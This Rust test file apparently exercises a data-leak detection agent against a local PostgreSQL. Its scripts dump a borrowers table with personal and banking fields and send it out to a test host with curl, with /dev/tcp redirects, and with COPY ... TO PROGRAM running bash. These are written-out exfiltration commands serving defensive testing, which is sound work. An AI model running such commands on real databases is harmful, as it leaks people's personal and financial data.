//! The whole theft on one host: a real PostgreSQL is read by a person, the result is packed and sent abroad. One incident.

use super::postgres::{Mode, Postgres};
use super::servers::{command_as, directory_for};
use super::world::World;
use crate::support::agent::{Agent, Setup};
use crate::support::{Guard, Scratch, free_port, now, run, until};
use rustix::process::Signal;
use serde_json::Value;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

/// What the store of the tests holds.
const CATEGORIES: &str = "\"iin\", \"name\", \"phone_mobile\", \"bank_account\", \"salary\"";

const LIMIT: Duration = Duration::from_secs(60);

/// An agent that reads the server's log and the kernel.
fn watching(server: &Postgres, more: &str) -> Agent {
    let agent = Setup::new("theft")
        .source("pg", "postgresql_csvlog", &server.logs().join("*.csv"), "")
        .with(&format!("[[source]]\nname = \"host\"\nsensor = {{}}\n{more}"))
        .start();
    until("the sensor works", LIMIT, || {
        (agent.setup.metric("kuzet_source_readable{source=\"host\"}") == Some(1.0)
            && agent.setup.metric("kuzet_records_seen_total{source=\"host\"}").is_some_and(|seen| seen > 0.0))
        .then_some(())
    });
    agent
}

/// Runs a shell script as a person without rights, in a login session of its own.
fn person(user: &str, script: &str, server: &Postgres, folder: &Path) {
    directory_for(user, folder, 0o700);
    let mut command = command_as(user, Path::new("/usr/bin/setsid"));
    command.args(["--wait", "bash", "-c", script]).current_dir(folder);
    let psql = format!("psql -X -q -h 127.0.0.1 -p {} -U analyst -d mfo", server.port());
    command.env("PGPASSWORD", "analyst-pw").env("PSQL", psql);
    let output = command.output().expect("the script runs");
    assert!(output.status.success(), "{script}: {}", String::from_utf8_lossy(&output.stderr));
}

/// Copies a file of `user` to the world by sftp; gives how long it is.
fn come_for(file: &Path, user: &str, world: &World, scratch: &Scratch) -> u64 {
    std::fs::set_permissions(scratch.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("own folder");
    for key in ["host", "key"] {
        run(Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(scratch.join(key)));
    }
    let _ = std::fs::create_dir("/run/sshd");
    let port = free_port().to_string();
    let mut sshd = Command::new("/usr/sbin/sshd");
    sshd.args(["-D", "-e", "-f", "none", "-p", &port, "-o", "StrictModes=no", "-o", "PidFile=none", "-h"]);
    sshd.arg(scratch.join("host")).arg("-o").arg(format!("AuthorizedKeysFile={}", scratch.join("key.pub").display()));
    sshd.args(["-o", "Subsystem=sftp internal-sftp", "-o"]).arg(format!("ListenAddress={}", world.near));
    let _sshd = Guard::spawn("sshd", &mut sshd, &scratch.join("sshd.log"), Signal::TERM);
    until("sshd listens", LIMIT, || std::net::TcpStream::connect(format!("{}:{port}", world.near)).ok());
    let mut scp = world.command("scp");
    scp.args(["-q", "-F", "none", "-P", &port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]);
    scp.arg("-o").arg(format!("BindAddress={}", world.abroad)).arg("-i").arg(scratch.join("key"));
    run(scp.arg(format!("{user}@{}:{}", world.near, file.display())).arg(scratch.join("fetched")));
    std::fs::metadata(scratch.join("fetched")).expect("it came").len()
}

/// Incidents of the person and of the role: others may work on this machine.
fn own(agent: &Agent) -> Vec<Value> {
    let own = |incident: &Value| ["analyst", "irc"].iter().any(|user| incident["user.name"] == *user);
    agent.setup.incidents().into_iter().filter(own).collect()
}

fn chained(agent: &Agent) -> Option<Value> {
    let is = |incident: &Value| incident["kuzet.transfers"]["flows"].as_array().is_some_and(|flows| !flows.is_empty());
    own(agent).into_iter().find(is)
}

#[test]
fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
    let server = Postgres::start(Mode::Pgaudit);
    let world = World::new();
    let abroad = &world.abroad;
    let agent = watching(&server, "");
    let uploads = world.https(abroad, &agent.setup.scratch);
    let folder = server.path().join("person");
    // The connection goes on while the incident is there already.
    let script = format!(
        "$PSQL -c \"COPY borrowers TO STDOUT\" > list.csv && gzip list.csv && \
         curl -sSk --limit-rate 60k -T list.csv.gz https://{abroad}/list && true"
    );
    let told = std::thread::scope(|scope| {
        let thief = scope.spawn(|| person("irc", &script, &server, &folder));
        let told = until("the chain is told", LIMIT, || chained(&agent).map(|_| now()));
        assert!(!thief.is_finished(), "it is told while the upload runs");
        thief.join().expect("the script ends");
        told
    });
    let (began, bytes) = uploads.recv_timeout(LIMIT).expect("the upload came");
    println!("told {:?} after the first byte; {bytes} bytes came", told.saturating_duration_since(began));
    let incident = until("the end is told", LIMIT, || {
        chained(&agent)
            .filter(|incident| incident["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64() > Some(bytes))
    });
    assert_eq!(incident["kuzet.severity"], "critical", "{incident}");
    assert_eq!((&incident["user.name"], &incident["kuzet.store"]["name"]), (&"analyst".into(), &"borrowers".into()));
    let kinds = incident["kuzet.kinds"].to_string();
    assert!(kinds.contains("exfiltration") && kinds.contains("export"), "{kinds}");
    let people = &incident["kuzet.people"];
    assert_eq!(people["at_most"], 10_000, "{people}");

    let flows = &incident["kuzet.transfers"]["flows"];
    assert_eq!(flows.as_array().map(Vec::len), Some(1), "{flows}");
    let flow = &flows[0];
    assert_eq!((&flow["destination.address"], &flow["destination.port"]), (&abroad.as_str().into(), &443.into()));
    assert_eq!((&flow["kuzet.place.verdict"], &flow["kuzet.joined"]), (&"foreign-unlisted".into(), &"session".into()));
    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"curl".into(), &"irc".into()));
    let hashed = until("what the program's file is is told", LIMIT, || {
        let process = |incident: &Value| incident["kuzet.transfers"]["flows"][0]["process"].clone();
        chained(&agent).filter(|incident| process(incident)["process.hash.sha256"].is_string())
    });
    crate::cli::valid(&hashed, &crate::support::root().join("docs/schema/incident-1.json"));
    let named = &hashed["kuzet.transfers"]["flows"][0];
    let path = named["process"]["process.executable"].as_str().expect("its file");
    let sum = Command::new("sha256sum").arg(path).output().expect("sha256sum runs").stdout;
    assert_eq!(named["process"]["process.hash.sha256"], *String::from_utf8_lossy(&sum[..64]), "{named}");
    println!("{named:#}");
    let sent = flow["destination.bytes"].as_u64().expect("bytes");
    assert!(sent < bytes + bytes / 50 + 4_096, "{sent} bytes of {bytes}: what TLS adds is little");
    let steps: Vec<&str> =
        flow["kuzet.steps"].as_array().into_iter().flatten().filter_map(|step| step["process.name"].as_str()).collect();
    assert_eq!(steps, ["psql", "gzip"], "{flow}");

    let all = own(&agent);
    assert_eq!(all.len(), 1, "one incident: {all:#?}");
    let map = agent.setup.run(&["geo", "map", "--json"]);
    let map: Value = serde_json::from_slice(&map.stdout).expect("a map");
    crate::cli::valid(&map, &crate::support::root().join("docs/schema/geo-map-1.json"));
    let ours = |one: &&Value| one["address"] == *abroad.as_str();
    let ended = map["destinations"].as_array().into_iter().flatten().find(ours).expect("the world is on the map");
    assert_eq!((&ended["stores"][0], &ended["accounts"][0]), (&"borrowers".into(), &"irc".into()), "{ended}");
    println!("{}", String::from_utf8_lossy(&agent.setup.run(&["geo", "map"]).stdout));
    agent.setup.accounted("pg");
    agent.setup.accounted("host");
}

#[test]
fn what_a_server_account_sends_or_somebody_comes_for_is_told_and_a_registered_recipient_is_not() {
    let server = Postgres::start(Mode::Pgaudit);
    let world = World::new();
    let (abroad, home) = (&world.abroad, &world.home);
    let scratch = Scratch::new("recipients");
    let register = scratch.join("recipients.toml");
    let entry = format!(
        "[[recipient]]\nname = \"Credit bureau\"\naddress = \"{abroad}\"\nport = 8443\ncountry = \"DE\"\n\
         contract = \"No. 1\"\nbasis = \"law\"\ncategories = [{CATEGORIES}]\nowner = \"credit department\"\n\
         expires = 2099-01-01\n"
    );
    std::fs::write(&register, entry).expect("own file");
    let agent = watching(&server, &format!("[place]\nrecipients = \"{}\"\n", register.display()));
    for listener in [world.listen(abroad, 8443), world.listen(abroad, 9000), world.listen(home, 9000)] {
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = std::io::copy(&mut stream, &mut std::io::sink());
            }
        });
    }
    let folder = server.path().join("person");
    let read = "$PSQL -c \"COPY borrowers TO STDOUT\" > list.csv";
    // Who may have it gets it, and in Kazakhstan nobody else is asked for a few bytes.
    person(
        "list",
        &format!("{read}; cat list.csv > /dev/tcp/{abroad}/8443; echo hello > /dev/tcp/{home}/9000; true"),
        &server,
        &folder,
    );
    let export =
        until("the export is told", LIMIT, || own(&agent).into_iter().find(|one| one.to_string().contains("export")));
    assert!(export["kuzet.transfers"].is_null(), "{export}");
    // He comes for it from abroad.
    let bytes = come_for(&folder.join("list.csv"), "list", &world, &scratch);
    let fetched = until("who came for it is told", LIMIT, || {
        chained(&agent).filter(|one| one["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64() > Some(bytes))
    });
    let flow = &fetched["kuzet.transfers"]["flows"][0];
    assert_eq!(
        (&fetched["kuzet.incident.id"], &flow["network.direction"]),
        (&export["kuzet.incident.id"], &"inbound".into())
    );
    assert_eq!((&flow["destination.address"], &flow["kuzet.joined"]), (&abroad.as_str().into(), &"account".into()));
    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"sshd".into(), &"list".into()));

    // The server's own account: a program that COPY … TO PROGRAM starts is a child of the server's process.
    let send = format!("COPY borrowers TO PROGRAM 'bash -c \"cat > /dev/tcp/{abroad}/9000\"'");
    server.admin("mfo", &send);
    // What it sends is in clear: the people in it are counted without the database's log.
    let traffic = until("the server's account is told", LIMIT, || {
        let is = |incident: &Value| incident.to_string().contains("service_traffic");
        let clear = |incident: &Value| incident.to_string().contains("data_in_clear");
        agent
            .setup
            .incidents()
            .into_iter()
            .find(|one| is(one) && clear(one) && one.to_string().contains(abroad.as_str()))
    });
    assert_eq!(
        (&traffic["user.name"], &traffic["kuzet.severity"]),
        (&"postgres".into(), &"critical".into()),
        "{traffic}"
    );
    assert!(traffic["kuzet.people"]["at_least"].as_u64().is_some_and(|people| people > 100), "{traffic}");
}
